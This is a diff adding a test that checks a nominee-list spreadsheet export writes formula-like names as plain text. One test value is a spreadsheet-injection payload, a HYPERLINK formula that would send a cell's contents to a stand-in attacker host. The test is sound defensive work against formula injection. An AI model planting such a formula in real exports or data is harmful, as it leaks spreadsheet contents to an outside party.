@@ -455,3 +455,16 @@ def test_query_count_does_not_grow_with_rows(client, world, page_name):
         services.round_publish(round_id=round_.pk, actor=None)
     large = _queries(client, url())
     assert large == small, f"{page}: {small} queries for 10 rows, {large} for 100"
+
+
+def test_key_list_export_writes_a_formula_like_nominee_name_as_text(client, world):
+    world.app.nominees.update(name="=1+2")
+    world.a.name_zh = '=HYPERLINK("http://evil.example/?"&A3,"x")'
+    world.a.save()
+    client.force_login(world.shenzhen)
+    export = client.get(reverse("trainees:round_export", args=[world.round.pk]) + "?type=compliance")
+    sheet = load_workbook(io.BytesIO(export.content)).active
+    cells = {c.value: c for row in sheet.iter_rows(min_row=3) for c in row if c.value is not None}
+    assert cells["=1+2"].data_type == "s"
+    assert cells[world.a.name_zh].data_type == "s"
+    assert sheet.freeze_panes == "A3"
